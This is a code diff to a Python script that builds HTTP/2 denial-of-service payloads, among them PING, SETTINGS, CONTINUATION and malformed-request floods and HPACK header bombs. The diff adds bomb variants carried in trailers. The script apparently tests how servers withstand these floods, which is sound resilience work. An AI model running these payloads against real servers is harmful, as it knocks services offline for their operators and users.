@@ -142,7 +142,9 @@ def many(function, first=b"", count=20000):
 def floods():
     reset = struct.pack(">I", 8)
     open_one = frame(1, 4, 1, BLOCK)
-    huge = b"\x40\x01a\x7f\xb9\x16" + b"b" * 3000 + b"\xbe" * 12000
+    field = b"\x40\x01a\x7f\xb9\x16" + b"b" * 3000
+    huge = field + b"\xbe" * 12000
+    call = lambda stream, trailers: frame(1, 4, stream, BLOCK) + frame(0, 0, stream, MESSAGE) + frame(1, 5, stream, trailers)
     yield "PING", many(lambda _: frame(6, payload=b"12345678"))
     yield "SETTINGS", many(lambda _: frame(4))
     yield "WINDOW_UPDATE", many(lambda _: frame(8, payload=b"\0\0\0\1"))
@@ -154,6 +156,9 @@ def floods():
     yield "malformed requests", many(lambda stream: frame(1, 4, stream, BAD))
     yield "CONTINUATION", many(lambda _: frame(9, 0, 1, b"\0\1x\1y"), frame(1, 0, 1, BLOCK))
     yield "HPACK bomb", many(lambda stream: frame(1, 4, stream, huge), count=200)
+    yield "HPACK bomb in trailers", many(lambda stream: call(stream, huge), count=200)
+    # Of 16 times the allowed length each, which alone makes no bomb.
+    yield "long trailers", many(lambda stream: call(stream + 2, b"\xbe" * 70), call(1, field))
 
 
 def attack(port, first, parts):
